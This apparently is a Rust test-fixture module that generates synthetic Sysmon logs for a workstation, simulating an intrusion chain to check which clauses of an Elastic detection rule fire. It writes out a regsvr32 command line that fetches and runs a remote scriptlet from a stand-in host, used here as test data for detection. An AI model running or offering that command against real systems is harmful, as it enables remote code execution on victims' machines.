//! The workstation: the way in, and both sides of every clause of the Elastic rule but the addresses.

mod clauses;
mod order;

use super::Sample;
use super::teller::{Answer, Start, Teller, To};
use super::words::*;
use crate::evtx::{Log, Value};
use crate::sysmon::{Event, Generation, Host, process_terminate};

/// The host.
pub fn host() -> Host {
    Host::new("WS01.corp.example", 0x2f1c_8a40)
}

fn tell() -> Teller {
    let mut t = Teller::new(host(), Generation::New, "2026-03-02 08:15:00.000", 5001);
    way_in(&mut t);
    clauses::parents(&mut t);
    clauses::names(&mut t);
    clauses::protocols(&mut t);
    order::clocks(&mut t);
    order::identities(&mut t);
    order::cells(&mut t);
    const DAY: u64 = 86_400_000;
    t.case(
        "connection written to the log 3 days after it happened",
        &Start::of(REGSVR32),
        &To::ip(STAGER).late(3 * DAY),
        Answer::Both,
    );
    t
}

/// The log of Sysmon 15.
pub fn story() -> Sample {
    let t = tell();
    Sample {
        name: "ws01-sysmon.evtx",
        about: "WS01, Sysmon 15: the way in, and every clause of the Elastic rule but the addresses",
        bytes: t.log().into_bytes(),
        told: t.told,
        records: t.records,
        findings: t.findings,
    }
}

/// A volume shadow copy of the same log, older than it: its first 30 records again, under a name
/// that does not say what it is.
pub fn shadow_copy() -> Sample {
    let t = tell();
    let mut log = Log::in_memory();
    let (mut told, mut records) = (t.told, t.records);
    told.truncate(30);
    records.truncate(30);
    for record in &records {
        log.push(record).expect("records are short");
    }
    for told in &mut told {
        told.what = format!("again: {}", told.what);
        (told.elastic, told.splunk) = (Answer::No, false);
    }
    Sample {
        name: "ws01-sysmon.shadowcopy",
        about: "WS01: a shadow copy of part of the log before, so every record is a duplicate",
        bytes: log.into_bytes(),
        told,
        records,
        findings: Vec::new(),
    }
}

fn way_in(t: &mut Teller) {
    let word = t.start(
        &Start::of(WORD).line(&format!(
            "\"{WORD}\" /n \"C:\\Users\\alice\\Downloads\\invoice.docm\""
        )),
        "alice opens a document",
    );
    let line = "regsvr32.exe /s /n /u /i:http://cdn.example/a.sct scrobj.dll";
    let regsvr32 = t.start(
        &Start::of(REGSVR32).under(WORD).line(line),
        "Word starts regsvr32: a user's process under Program Files",
    );
    let asked = Event::new(Generation::New, 22)
        .with("UtcTime", t.clock.plus_ms(300).to_sysmon())
        .with("ProcessGuid", Value::Guid(regsvr32.process.guid(&t.host)))
        .with("ProcessId", Value::UInt32(regsvr32.process.pid))
        .with("QueryName", "cdn.example")
        .with("QueryStatus", "0")
        .with("QueryResults", "::ffff:93.184.216.34;")
        .with("Image", REGSVR32)
        .with("User", ALICE.name)
        .filled();
    t.event(t.clock.plus_ms(900), &asked, "regsvr32 asks for the name");
    let to = To::ip(STAGER)
        .port(80, "http")
        .with(|c| c.hostname = "cdn.example".to_owned());
    t.connect(
        &regsvr32,
        &to,
        Answer::Forensic,
        "regsvr32 fetches the scriptlet; the live pipeline takes the user for SYSTEM",
    );
    t.connect(
        &regsvr32,
        &to,
        Answer::No,
        "a second connection of the same process: its start is used up",
    );
    let end = t.clock.plus_ms(2_500);
    t.event(
        end,
        &process_terminate(&t.host, &regsvr32.process, end),
        "regsvr32 ends",
    );
    let dropped = Event::new(Generation::New, 11)
        .with("UtcTime", t.clock.plus_ms(3_100).to_sysmon())
        .with("ProcessGuid", Value::Guid(word.process.guid(&t.host)))
        .with("ProcessId", Value::UInt32(word.process.pid))
        .with("Image", WORD)
        .with(
            "TargetFilename",
            r"C:\Users\alice\AppData\Local\Temp\form.dll",
        )
        .with("CreationUtcTime", t.clock.plus_ms(3_100).to_sysmon())
        .with("User", ALICE.name)
        .filled();
    t.event(t.clock.plus_ms(3_120), &dropped, "Word drops a library");
    t.case(
        "from the desktop: no exclusion speaks of it",
        &Start::of(REGSVR32),
        &To::ip(STAGER),
        Answer::Both,
    );
}
